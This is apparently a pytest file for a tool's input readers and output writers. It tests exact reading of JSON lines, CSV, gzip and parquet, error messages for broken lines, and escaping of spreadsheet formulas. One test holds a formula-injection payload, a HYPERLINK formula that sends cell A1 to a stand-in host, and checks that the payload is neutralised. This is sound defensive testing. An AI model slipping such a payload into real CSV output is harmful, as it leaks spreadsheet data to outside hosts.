"""Input files are read exactly, or refused with file, line and column: broken lines, odd numbers,
odd text, odd columns.
"""

from __future__ import annotations

import csv
import datetime
import gzip
import json
import math
from decimal import Decimal
from pathlib import Path
from typing import Any

import orjson
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from beam_llm.cli.files import text_files
from beam_llm.cli.files.csv_cells import ALL_CELLS, ANSWERS, NO_CELLS
from beam_llm.cli.files.parquet_reader import parquet_fields
from beam_llm.cli.files.records import Answer, DataError, Source, digest_of, json_bytes
from beam_llm.cli.files.sources import find_sources, format_of, read_rows
from beam_llm.cli.files.survey import survey
from beam_llm.cli.files.target import Target
from beam_llm.cli.files.writers import InputChanged, write_rows
from beam_llm.errors import UsageError


def put(path: Path, content: str | bytes) -> str:
    path.write_bytes(content.encode() if isinstance(content, str) else content)
    return str(path)


def fields_in(path: str, **how: Any) -> list[dict[str, Any]]:
    return [
        row.fields for source in find_sources([path]) for row in read_rows(source._replace(**how))
    ]


def through(
    inputs: list[str], output: Path, answer: Any = "x", schema: Any = None, csv_safe: str = ANSWERS
) -> None:
    """Reads the inputs and writes them with one answer each, as `predict` does."""
    sources = find_sources(inputs)
    keeps_bytes = output.suffix == ".parquet" and parquet_fields(sources)
    sources = [source._replace(as_text=not keeps_bytes) for source in sources]
    found = survey(sources)
    answers = [Answer(answer, None)] * found.records
    target = Target(str(output), csv_safe=csv_safe)
    write_rows(
        target, sources, found.columns, found.digests, "answer", schema, lambda: iter(answers)
    )


# --- JSON lines


@pytest.mark.parametrize(
    ("line", "value"),
    [
        pytest.param(
            '{"v": 98765432109876543210987}', 98765432109876543210987, id="integer beyond 64 bits"
        ),
        pytest.param('{"v": -36893488147419103232}', -(2**65), id="negative, beyond 64 bits"),
        pytest.param(
            '{"v": [{"id": 18446744073709551616}]}', [{"id": 2**64}], id="nested, beyond 64 bits"
        ),
        pytest.param('{"v": Infinity}', math.inf, id="infinity"),
        pytest.param('{"v": "half \\udc4d of it"}', "half \udc4d of it", id="half a character"),
        pytest.param(
            '{"v": "a\u2028b\u2029c\u0085d"}', "a\u2028b\u2029c\u0085d", id="line separators"
        ),
        pytest.param('{"v": 0.1234567890123456789}', 0.1234567890123456789, id="a long fraction"),
    ],
)
def test_json_values_come_as_they_are_and_go_on_byte_for_byte(
    tmp_path: Path, line: str, value: Any
) -> None:
    source = put(tmp_path / "in.jsonl", line + "\r\n" + line)
    assert fields_in(source) == [{"v": value}] * 2
    through([source], tmp_path / "out.jsonl")
    assert (
        tmp_path / "out.jsonl"
    ).read_text() == f'{line[:-1]}, "answer": "x", "answer_error": null}}\n' * 2


def test_not_a_number_is_read(tmp_path: Path) -> None:
    (fields,) = fields_in(put(tmp_path / "in.jsonl", '{"v": NaN}\n'))
    assert math.isnan(fields["v"])


@pytest.mark.parametrize("output", ["out.csv", "out.parquet"])
def test_what_json_spells_and_utf8_cannot_hold_is_written_as_its_escape(
    tmp_path: Path, output: str
) -> None:
    source = put(tmp_path / "in.jsonl", '{"t": "\\ud83d!", "n": 36893488147419103232, "x": NaN}\n')
    through([source], tmp_path / output)
    if output == "out.csv":
        assert (
            tmp_path / output
        ).read_text() == "t,n,x,answer,answer_error\n\\ud83d!,36893488147419103232,NaN,x,\n"
    else:
        (row,) = pq.read_table(tmp_path / output).to_pylist()
        assert (row["t"], row["n"]) == ("\\ud83d!", "36893488147419103232")
        assert math.isnan(row["x"])


BROKEN = [
    pytest.param(
        "in.jsonl",
        b'{"a": 1}\n{"a": tru}\n',
        "in.jsonl:2: not JSON: Expecting value (column 7)",
        id="not JSON",
    ),
    pytest.param("in.jsonl", b'[\n{"a": 1}]\n', "in.jsonl:1: not a JSON object in one", id="array"),
    pytest.param(
        "in.jsonl",
        b'{"a": 1}\r\n\r\n{"a": "\xe9t\xe9"}\n',
        "in.jsonl:3: not UTF-8: byte 0xe9 in column 8",
        id="latin 1",
    ),
    pytest.param(
        "in.jsonl",
        b'{"a": 1}\n{"a": 2} {"a": 3}\n',
        "in.jsonl:2: there is more after the record (column 10): write one in each line",
        id="two on a line",
    ),
    pytest.param(
        "in.jsonl",
        b'{"a": 1}\r{"a": 2}\r',
        "in.jsonl:1: there is more after the record (column 10): write one in each line, and lines "
        "that end in a newline, not in a carriage return alone",
        id="carriage returns",
    ),
    pytest.param(
        "in.jsonl", b"\n" + b"[" * 3000 + b"\n", "in.jsonl:2: not JSON", id="nested deeply"
    ),
    pytest.param(
        "in.jsonl",
        b'{"a": 1}\n{"a": %s}\n' % (b"[" * 300 + b"]" * 300),
        "in.jsonl:2: not JSON that can be read: it is nested too deeply",
        id="nested more deeply than it can be pickled",
    ),
    pytest.param(
        "in.jsonl",
        b'{"a": 1}\n{"a": %s}\n' % (b"9" * 5000),
        "in.jsonl:2: not JSON that can be read",
        id="endless number",
    ),
    pytest.param(
        "in.jsonl",
        b'{"a": "1:2", "b": {"c": 1}}\n{"a": 1, "b": {"c": 1, "c": 2}}\n',
        "in.jsonl:2: a key occurs twice in one object, with two values",
        id="a key twice",
    ),
    pytest.param(
        "in.csv",
        b'a,b\n1,"x\n2,y\n3,z\n',
        "in.csv:2: not CSV: the quote in column 3 is never closed",
        id="unclosed quote",
    ),
    pytest.param(
        "in.csv",
        b'a,b\n1,x\n2,"he "said" so"\n',
        "in.csv:3: not CSV: the quote in column 3 is closed inside its value, in line 3, column 7",
        id="quote inside",
    ),
    pytest.param(
        "in.csv",
        b'a,b\n"fine\nstill","open\n3,"z"\n',
        "in.csv:2: not CSV: the quote in column 8 of line 3 is closed inside its value, in line 4, column 3",
        id="quote closed by the next one",
    ),
    pytest.param(
        "in.csv",
        b"a,b\n1,x\n2,y,z\n",
        "in.csv:3: 3 values, but the header names 2 columns",
        id="a value too many",
    ),
    pytest.param(
        "in.csv",
        b"\na;b\n1;x, y\n",
        "in.csv:3: 2 values, but the header names 1 column with ';' between them: write commas",
        id="semicolons",
    ),
    pytest.param(
        "in.csv", b'a,b\n"1\n2",x,y\n', "in.csv:2: 3 values", id="of a record of two lines"
    ),
    pytest.param(
        "in.csv",
        b"a,b\n1,ok\n2,caf\xe9\n",
        "in.csv:3: not UTF-8: byte 0xe9 in column 6",
        id="latin 1 in csv",
    ),
]


@pytest.mark.parametrize(("name", "content", "message"), BROKEN)
def test_a_broken_line_is_refused_with_its_place(
    tmp_path: Path, name: str, content: bytes, message: str
) -> None:
    source = put(tmp_path / name, content)
    with pytest.raises(DataError) as caught:
        survey(find_sources([source]))
    assert message in str(caught.value)


@pytest.mark.parametrize(("name", "content", "message"), BROKEN)
def test_a_broken_line_may_be_skipped_and_is_counted(
    tmp_path: Path, name: str, content: bytes, message: str
) -> None:
    good = len([line for line in content.splitlines()[name == "in.csv" :] if line.strip()]) - 1
    (source,) = [
        one._replace(skips_bad_lines=True) for one in find_sources([put(tmp_path / name, content)])
    ]
    found = survey([source])
    assert found.records + found.bad_lines >= good
    assert found.bad_lines >= 1
    assert message.partition(" in column")[0] in found.first_bad
    assert len(list(read_rows(source))) == found.records  # every later reading skips the same


def test_an_unclosed_quote_costs_its_own_line_alone(tmp_path: Path) -> None:
    content = (
        'id,text\n1,fine\n2,"open\n3,"good, ""really"""\n"4","two\nlines"\n5,"open too\n6,last\n'
    )
    source = Source(put(tmp_path / "in.csv", content), "csv", skips_bad_lines=True)
    read = [(row.line, *row.fields.values()) for row in read_rows(source)]
    assert read == [
        (2, "1", "fine"),
        (4, "3", 'good, "really"'),
        (5, "4", "two\nlines"),
        (8, "6", "last"),
    ]


@pytest.mark.parametrize(
    "text",
    ['{"a": "%s"}' % ("x" * 3_000_000), " " * 3_000_000 + '{"a": 2}'],
    ids=["a long text", "begins with blanks"],
)
def test_a_long_line_is_refused_before_it_fills_the_memory(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, text: str
) -> None:
    monkeypatch.setattr(text_files, "LINE_BYTES", 1 << 20)
    source = Source(put(tmp_path / "in.jsonl", f'{{"a": 1}}\n{text}\n{{"a": 3}}\n'), "jsonl")
    with pytest.raises(DataError, match=r"in.jsonl:2: the line is longer than 1 MB"):
        list(read_rows(source))
    assert [(row.line, row.fields) for row in read_rows(source._replace(skips_bad_lines=True))] == [
        (1, {"a": 1}),
        (3, {"a": 3}),
    ]


def test_a_quote_without_an_end_does_not_fill_the_memory_either(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(text_files, "LINE_BYTES", 100_000)
    source = Source(put(tmp_path / "in.csv", 'a,b\n1,"x\n' + "2,y\n" * 100_000), "csv")
    with pytest.raises(
        DataError, match=r"in.csv:2: not CSV: the quote in column 3 is never closed"
    ):
        list(read_rows(source))


@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"], ids=repr)
def test_csv_takes_every_line_end_and_a_byte_order_mark(tmp_path: Path, end: str) -> None:
    source = put(
        tmp_path / "in.csv",
        "\ufeff" + end.join(["id,text", "1,a", '2,"b ""c"""', '3,5" pipe']) + end,
    )
    assert fields_in(source) == [
        {"id": "1", "text": "a"},
        {"id": "2", "text": 'b "c"'},
        {"id": "3", "text": '5" pipe'},
    ]


# --- gzip and other packings


@pytest.mark.parametrize(
    ("name", "content"),
    [
        pytest.param("in.jsonl.gz", b'{"id": "1"}\n{"id": "2"}\n', id="jsonl"),
        pytest.param("in.CSV.GZ", b"id\n1\n2\n", id="csv"),
        pytest.param("in.jsonl", b'{"id": "1"}\n{"id": "2"}\n', id="without the name"),
    ],
)
def test_gzip_is_read_and_written(tmp_path: Path, name: str, content: bytes) -> None:
    half = len(content) // 2
    # As `cat a.gz b.gz` makes it.
    source = put(tmp_path / name, gzip.compress(content[:half]) + gzip.compress(content[half:]))
    assert fields_in(source) == [{"id": "1"}, {"id": "2"}]
    through([source], tmp_path / "out.jsonl.gz")
    with gzip.open(tmp_path / "out.jsonl.gz") as written:
        assert [json.loads(line)["id"] for line in written] == ["1", "2"]


def test_damaged_gzip_names_the_last_line_that_was_read(tmp_path: Path) -> None:
    packed = gzip.compress(
        "".join(f'{{"id": "{number * 7919}"}}\n' for number in range(5000)).encode()
    )
    with pytest.raises(
        DataError, match=r"in.jsonl.gz:\d+: the gzip data is damaged or cut in or after this line"
    ):
        fields_in(put(tmp_path / "in.jsonl.gz", packed[: len(packed) // 2]))
    with pytest.raises(DataError, match=r"in.jsonl.gz:1: .*get the file again"):
        fields_in(put(tmp_path / "in.jsonl.gz", packed[:30]))


@pytest.mark.parametrize("name", ["in.jsonl.bz2", "in.csv.zst", "in.parquet.gz", "in.zip"])
def test_other_packings_are_refused_by_name(name: str) -> None:
    with pytest.raises(UsageError, match="unpack it"):
        format_of(name)


@pytest.mark.parametrize(
    ("head", "what"),
    [
        (b"BZh91AY", "bzip2"),
        (b"PK\x03\x04", "zip"),
        (b"\xff\xfe{\0", "UTF-16"),
        (b"PAR1", "a parquet file"),
    ],
)
def test_a_file_of_another_kind_under_the_name_of_text_is_told(
    tmp_path: Path, head: bytes, what: str
) -> None:
    with pytest.raises(DataError, match=what):
        fields_in(put(tmp_path / "in.csv", head + b"rest of it\n"))


# --- parquet


def parquet(path: Path, **columns: Any) -> str:
    pq.write_table(pa.table(columns), path)
    return str(path)


def test_two_columns_of_one_name_are_refused(tmp_path: Path) -> None:
    table = pa.Table.from_arrays(
        [pa.array([1]), pa.array(["l"]), pa.array(["r"])], names=["k", "note", "note"]
    )
    pq.write_table(table, tmp_path / "in.parquet")
    with pytest.raises(DataError, match=r"in.parquet: 'note' is the name of two columns"):
        survey(find_sources([str(tmp_path / "in.parquet")]))


def test_binary_text_is_text(tmp_path: Path) -> None:
    source = parquet(
        tmp_path / "in.parquet", t=pa.array([b'say "hi"\nthen go', "é".encode(), None])
    )
    assert [row["t"] for row in fields_in(source)] == ['say "hi"\nthen go', "é", None]
    through([source], tmp_path / "out.csv")
    with open(tmp_path / "out.csv", newline="") as file:
        assert [row["t"] for row in csv.DictReader(file)] == ['say "hi"\nthen go', "é", ""]


@pytest.mark.parametrize("output", ["out.jsonl", "out.csv"])
@pytest.mark.parametrize(
    "column",
    [
        pytest.param(pa.array([b"fine", b"\x89PNG\xff"]), id="binary"),
        pytest.param(pa.array([{"bytes": b"ok"}, {"bytes": b"\xff\xd8"}]), id="in a struct"),
        pytest.param(pa.array([[b"a"], [b"b", b"\xc3"]]), id="in a list"),
    ],
)
def test_bytes_that_are_not_text_are_refused_where_they_can_not_be_written(
    tmp_path: Path, column: pa.Array, output: str
) -> None:
    source = parquet(tmp_path / "in.parquet", image=column)
    with pytest.raises(
        DataError, match=r"in.parquet, row 2: column 'image' holds bytes that are not text"
    ):
        through([source], tmp_path / output)
    through([source], tmp_path / "out.parquet")
    assert (
        pq.read_table(tmp_path / "out.parquet", columns=["image"]).column("image").combine_chunks()
        == column
    )


NANOS = 1_812_345_678_987_654_321


def test_nanoseconds_are_kept(tmp_path: Path) -> None:
    source = parquet(
        tmp_path / "in.parquet",
        at=pa.array([NANOS, 1_812_345_678_000_000_000], pa.timestamp("ns")),
        zoned=pa.array([NANOS, None], pa.timestamp("ns", "Asia/Tokyo")),
        took=pa.array([1_000_000_001, 1_000], pa.duration("ns")),
        clock=pa.array([3_600_000_000_007, 0], pa.time64("ns")),
        seen=pa.array([[{"t": NANOS}], []], pa.list_(pa.struct([("t", pa.timestamp("ns"))]))),
    )
    first, second = fields_in(source)
    assert first == {
        "at": "2027-06-07T05:21:18.987654321",
        "zoned": "2027-06-07T14:21:18.987654321+09:00",
        "took": "0:00:01.000000001",
        "clock": "01:00:00.000000007",
        "seen": [{"t": "2027-06-07T05:21:18.987654321"}],
    }
    assert second["at"] == datetime.datetime(2027, 6, 7, 5, 21, 18)
    assert second["took"] == datetime.timedelta(microseconds=1)
    assert (second["zoned"], second["clock"], second["seen"]) == (None, datetime.time(0), [])
    through([source], tmp_path / "out.parquet")
    assert (
        pq.read_table(tmp_path / "out.parquet")
        .drop(["answer", "answer_error"])
        .equals(pq.read_table(source))
    )


def test_parquet_columns_of_every_kind_go_on_as_they_are(tmp_path: Path) -> None:
    table = pa.table(
        {
            "decimal": pa.array([Decimal("1.10"), None], pa.decimal128(10, 2)),
            "words": pa.array(["a", "b"]).dictionary_encode(),
            "map": pa.array([[("k", 1)], None], pa.map_(pa.string(), pa.int8())),
            "half": pa.array([1.5, math.nan], pa.float32()),
        }
    )
    pq.write_table(table, tmp_path / "in.parquet", row_group_size=1)
    through(
        [str(tmp_path / "in.parquet")],
        tmp_path / "out.parquet",
        {"a": 1},
        {"type": "object", "properties": {"a": {"type": "integer"}}},
    )
    written = pq.read_table(tmp_path / "out.parquet")
    assert written.select(["decimal", "words", "map"]).equals(
        table.select(["decimal", "words", "map"])
    )
    assert math.isnan(written["half"][1].as_py())
    assert written["answer"].to_pylist() == [{"a": 1}] * 2


def test_a_value_that_python_can_not_hold_names_file_and_column(tmp_path: Path) -> None:
    source = parquet(tmp_path / "in.parquet", far=pa.array([253402300800], pa.timestamp("s")))
    with pytest.raises(DataError, match=r"in.parquet, rows 1 to 1: column 'far'"):
        fields_in(source)


def test_a_struct_with_two_fields_of_one_name_is_refused(tmp_path: Path) -> None:
    fields = [pa.array([1], pa.timestamp("ns")), pa.array([2])]
    source = parquet(tmp_path / "in.parquet", x=pa.StructArray.from_arrays(fields, ["a", "a"]))
    with pytest.raises(DataError, match=r"column 'x'.*two fields of a struct have one name"):
        fields_in(source)


def test_a_damaged_page_names_its_file(tmp_path: Path) -> None:
    pq.write_table(
        pa.table({"t": [f"{'y' * 900}{number}" for number in range(4000)]}),
        tmp_path / "in.parquet",
        compression="snappy",
    )
    data = bytearray((tmp_path / "in.parquet").read_bytes())
    data[1500:1700] = b"\xff" * 200
    with pytest.raises(DataError, match=r"in.parquet: the parquet data is damaged after row "):
        fields_in(put(tmp_path / "in.parquet", bytes(data)))


def test_not_a_number_in_parquet_is_a_word_in_json(tmp_path: Path) -> None:
    source = parquet(tmp_path / "in.parquet", v=pa.array([math.nan, -math.inf, None, 0.5]))
    through([source], tmp_path / "out.jsonl")
    written = (tmp_path / "out.jsonl").read_bytes().splitlines()
    assert [orjson.loads(line)["v"] for line in written] == ["NaN", "-Infinity", None, 0.5]


# --- digests and exact JSON


def test_a_digest_is_of_the_content_alone() -> None:
    assert digest_of({"a": 1, "b": [None, "x"]}) == digest_of({"b": [None, "x"], "a": 1})
    different = [
        {"a": 1},
        {"a": 1.0},
        {"a": "1"},
        {"a": True},
        {"a": None},
        {"a": math.nan},
        {"a": "NaN"},
        {"a": 2**70},
        {"a": "\ud800"},
        {},
    ]
    assert len({digest_of(fields) for fields in different}) == len(different)


@pytest.mark.parametrize(
    ("value", "text"),
    [
        pytest.param(
            {"n": 2**80, "x": [math.nan]},
            b'{"n":1208925819614629174706176,"x":["NaN"]}',
            id="large and not a number",
        ),
        pytest.param(["\udfff"], b'["\\udfff"]', id="half a character"),
        pytest.param(b"\xff\x00", b'"/wA="', id="bytes"),
        pytest.param(Decimal("1.10"), b'"1.10"', id="decimal"),
        pytest.param(
            [2**70, datetime.date(2026, 2, 3)],
            b'[1180591620717411303424,"2026-02-03"]',
            id="a date beside",
        ),
    ],
)
def test_values_that_json_has_no_word_for_are_spelled(value: Any, text: bytes) -> None:
    assert json_bytes(value) == text


# --- formulas


FORMULA = '=HYPERLINK("http://x/?"&A1)'


@pytest.mark.parametrize(
    ("csv_safe", "cell", "answer"),
    [
        pytest.param(ANSWERS, "+49 30 1234", f"'{FORMULA}", id="answers by default"),
        pytest.param(ALL_CELLS, "'+49 30 1234", f"'{FORMULA}", id="all"),
        pytest.param(NO_CELLS, "+49 30 1234", FORMULA, id="none"),
    ],
)
def test_an_answer_is_no_formula_in_a_spreadsheet(
    tmp_path: Path, csv_safe: str, cell: str, answer: str
) -> None:
    source = put(tmp_path / "in.jsonl", '{"t": "+49 30 1234", "n": -5}\n')
    through([source], tmp_path / "out.csv", FORMULA, csv_safe=csv_safe)
    with open(tmp_path / "out.csv", newline="") as file:
        assert list(csv.DictReader(file)) == [
            {"t": cell, "n": "-5", "answer": answer, "answer_error": ""}
        ]


@pytest.mark.parametrize(
    ("answer", "cell"),
    [
        ("-5", "-5"),
        (-5.5, "-5.5"),
        ("- first", "'- first"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1", "'\t=1"),
        ("a=1", "a=1"),
        ("\uff1d1", "'\uff1d1"),
    ],
)
def test_numbers_and_plain_texts_stay_as_they_are(tmp_path: Path, answer: Any, cell: str) -> None:
    through([put(tmp_path / "in.jsonl", "{}\n")], tmp_path / "out.csv", answer)
    with open(tmp_path / "out.csv", newline="") as file:
        assert next(csv.DictReader(file))["answer"] == cell


# --- a file that changes


@pytest.mark.parametrize(
    "after",
    [
        pytest.param('{"id": 2}\n{"id": 1}\n', id="other order"),
        pytest.param('{"id": 1}\n', id="one gone"),
        pytest.param('{"id": 1}\n{"id": 2}\n{"id": 3}\n', id="one more"),
        pytest.param('{"id": 1}\n{"id": 7}\n', id="one edited"),
    ],
)
@pytest.mark.parametrize("output", ["out.jsonl", "out.csv", "out.parquet"])
def test_nothing_is_written_of_a_file_that_is_not_what_it_was(
    tmp_path: Path, after: str, output: str
) -> None:
    source = put(tmp_path / "in.jsonl", '{"id": 1}\n{"id": 2}\n')
    sources = find_sources([source])
    found = survey(sources)
    put(tmp_path / "in.jsonl", after)
    answers = [Answer("one", None), Answer("two", None)]
    with pytest.raises(InputChanged, match=r"changed|lost"):
        write_rows(
            Target(str(tmp_path / output)),
            sources,
            found.columns,
            found.digests,
            "answer",
            None,
            lambda: iter(answers),
        )
    assert [path.name for path in tmp_path.iterdir()] == ["in.jsonl"]
